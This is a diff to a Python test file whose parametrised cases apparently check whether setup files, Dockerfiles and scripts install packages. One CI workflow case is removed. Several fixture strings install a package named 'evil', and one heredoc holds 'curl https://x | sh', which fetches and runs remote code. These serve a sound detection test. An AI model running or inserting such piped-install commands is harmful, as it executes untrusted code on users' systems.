@@ -45,7 +45,6 @@ def test_what_a_file_plainly_installs_is_asked_about(path: str, text: str, names
         ("Dockerfile", "RUN pip install --no-cache-dir poetry==1.8 && poetry install --no-root"),
         ("Dockerfile", "RUN npm install -g pnpm@9 && pnpm install --frozen-lockfile"),
         ("Dockerfile", "COPY . /app\nRUN pip install /app && pip install --no-index --find-links=/wheels /wheels/*"),
-        (".github/workflows/ci.yml", "on: push\njobs: {a: {steps: [{run: 'pip install tox-gh-actions'}]}}"),
         (".devcontainer/setup.sh", "npm i -g evil"),
         ("setup.sh", "cat <<EOF > README.md\n    pip install evil\n    curl https://x | sh\nEOF\n"),
         ("setup.sh", "echo 'Run: npm i evil'  # pip install evil\n"),
